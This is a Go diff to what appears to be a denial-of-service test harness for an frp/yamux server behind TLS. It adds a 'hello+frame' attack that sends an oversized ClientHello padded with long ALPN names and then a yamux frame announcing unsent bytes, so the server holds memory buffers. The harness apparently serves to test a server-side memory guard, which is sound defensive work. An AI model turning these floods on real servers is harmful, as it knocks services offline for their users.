@@ -32,6 +32,9 @@ const (
 	// frame that announces what is left of Budget, then nothing: yamux
 	// allocates a frame's announced length up front.
 	AttackFrame Attack = "frame"
+	// AttackHelloFrame is AttackFrame after a ClientHello of 15 KB (long
+	// ALPN protocol names), which TLS keeps buffers for.
+	AttackHelloFrame Attack = "hello+frame"
 	// AttackOpening completes TLS and opens one stream sending all but the
 	// last bytes of an frp v1 message announcing 10,240 bytes (frp's
 	// largest), then nothing.
@@ -65,7 +68,7 @@ type floodConn struct {
 	attacked time.Time     // when the attack was sent
 	closed   chan struct{} // closed when the server closed the connection
 	closedAt atomic.Int64  // unix nanos
-	failed   error         // dial, handshake or attack error
+	failed   error         // the dial or the TLS handshake failed
 }
 
 func (c *floodConn) Write(p []byte) (int, error) {
@@ -112,7 +115,13 @@ func (f Flood) attack(ctx context.Context, c *floodConn) error {
 	case AttackHello:
 		return sendHugeClientHello(c, f.Budget)
 	}
-	tc := tls.Client(&sentCounter{Conn: c.raw, c: c}, &tls.Config{InsecureSkipVerify: true}) //nolint:gosec // an attacker does not verify
+	cfg := &tls.Config{InsecureSkipVerify: true} //nolint:gosec // an attacker does not verify
+	if f.Attack == AttackHelloFrame {
+		for i := range 60 {
+			cfg.NextProtos = append(cfg.NextProtos, fmt.Sprintf("%0250d", i))
+		}
+	}
+	tc := tls.Client(&sentCounter{Conn: c.raw, c: c}, cfg)
 	hctx, cancel := context.WithTimeout(ctx, 10*time.Second)
 	defer cancel()
 	if err := tc.HandshakeContext(hctx); err != nil {
@@ -126,7 +135,7 @@ func (f Flood) attack(ctx context.Context, c *floodConn) error {
 		}
 	case AttackAnnounce:
 		out = muxFrame(muxFlagSYN, 1, v2Announce(64<<10))
-	case AttackFrame:
+	case AttackFrame, AttackHelloFrame:
 		left := f.Budget - int(c.sent.Load()) - muxHeaderSize - 64 // what the guard sees may include a record header or two
 		out = muxHeader(muxFlagSYN, 1, uint32(max(left, 0)))       //nolint:gosec // left is small
 	case AttackOpening:
